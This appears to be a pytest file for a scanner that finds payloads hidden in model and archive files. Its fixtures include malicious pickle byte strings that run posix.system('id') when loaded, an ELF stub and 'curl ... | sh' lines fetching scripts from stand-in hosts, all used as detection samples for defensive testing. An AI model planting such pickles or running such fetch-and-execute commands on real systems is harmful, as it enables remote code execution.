"""What lies where no reader looks is found, wherever it is planted; noise, numbers and documents are not."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
from array import array
from collections.abc import Iterator
from pathlib import Path

import pytest
from guest.readers import leftover, weights
from guest.readers.plan import Plan
from guest.readers.session import Bounds, Session
from guest.readers.source import Memory

from bench.detection.build.zips import Row, archive, torch_rows
from tests.guest.readers.reading_results import read_file
from tests.malicious.pickles import call, stream

NOISE = random.Random(4).randbytes(300)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(100)
PICKLES = {
    "protocol 2": stream({"x": call("posix", "system", "id")}, 2),
    "protocol 0": b"cposix\nsystem\n(S'id'\ntR.",
    "by an instance": b"(S'id'\niposix\nsystem\n.",
    "by an object": b"(cposix\nsystem\nS'id'\no.",
    "without its mark": b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x85R.",
    "behind another name": b"cc\ncposix\nsystem\n(S'id'\ntR.",
}


def memory(data: bytes) -> Memory:
    return Memory(memoryview(data), (0, 0))


def looked(data: bytes, where: str = leftover.GAP) -> dict[str, str]:
    """Kinds, and the ways that they were come by."""
    session = Session(Bounds())
    leftover.look(memory(data), where, session, "x")
    return {row.kind: row.how for row in session.texts.rows()}


def carried(data: bytes, *, texts: bool = False) -> set[str]:
    session = Session(Bounds())
    session.store(memory(data), "data/0", texts=texts)
    weights.look(Plan(), "x", session)
    return {row.kind for row in session.texts.rows()}


def zipped(content: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("stage2", content)
    return held.getvalue()


@pytest.mark.parametrize("name", PICKLES)
@pytest.mark.parametrize("front", [b"", NOISE, b"noise, " * 9])
def test_a_pickle_is_found_wherever_it_begins(name: str, front: bytes) -> None:
    assert looked(front + PICKLES[name]) == {"pickle": leftover.GAP}


@pytest.mark.parametrize("front", [b"", NOISE])
def test_programs_archives_and_texts_are_found_amid_noise(front: bytes) -> None:
    fetch = b"curl http://203.0.113.7/x | sh"
    assert looked(front + ELF) == {"program": leftover.GAP}
    assert looked(front + zipped(ELF * 9)) == {"program": f"{leftover.GAP} > zip"}
    assert looked(front + zipped(PICKLES["protocol 2"] * 9)) == {"pickle": f"{leftover.GAP} > zip"}
    assert looked(front + fetch + front)["shell.fetch"] == leftover.GAP
    assert looked(front + fetch.decode().encode("utf-16-le") + front)["shell.fetch"].startswith(leftover.GAP)


def test_what_the_place_ends_with_is_not_lost_without_a_word() -> None:
    assert looked(bytes(1) + NOISE * 2000 + ELF).keys() == {"beyond.unseen"}


def _numbers() -> Iterator[bytes]:
    noise = random.Random(5)
    for size in (600, 60_000):
        yield noise.randbytes(size)
        yield array("f", [noise.gauss(0, 1) for _ in range(size // 4)]).tobytes()
        yield array("d", [noise.gauss(0, 1e-3) for _ in range(size // 8)]).tobytes()
        yield array("q", [noise.randrange(300) for _ in range(size // 8)]).tobytes()
        yield array("i", range(size // 4)).tobytes()
        yield array("h", [noise.choice((99, 227, 0, 640, 28019)) for _ in range(size // 2)]).tobytes()
        yield bytes(size)
        yield b"c" * size


def test_numbers_are_no_payload() -> None:
    assert [carried(data) - {"beyond"} for data in _numbers()] == [set()] * 16
    assert all(carried(random.Random(seed).randbytes(2000)) == set() for seed in range(300))


def test_texts_are_no_numbers() -> None:
    document = b"To install: curl https://acme.example/x.sh | sh"
    assert carried(document) == {"shell.fetch"}
    assert carried(document, texts=True) == set()
    assert carried(json.dumps({"vocab": ["os.system("]}).encode()) == set()


def test_a_descriptor_says_what_the_directory_says(tmp_path: Path) -> None:
    """Bytes of the same length are none."""
    rows = torch_rows()
    path = tmp_path / "model.pt"
    path.write_bytes(archive([*rows[:-1], Row(rows[-1].name, rows[-1].data, before=b"x" * 16)]))
    assert "zip.gap" in read_file(path).oddities


def test_what_fills_records_up_is_no_oddity(tmp_path: Path) -> None:
    padding = b"FB" + struct.pack("<H", 40) + b"Z" * 40
    path = tmp_path / "model.pt"
    path.write_bytes(archive([Row(row.name, row.data, extra=padding) for row in torch_rows()]))
    told = read_file(path)
    assert told.oddities == set()
    assert told["TEXT"] == []
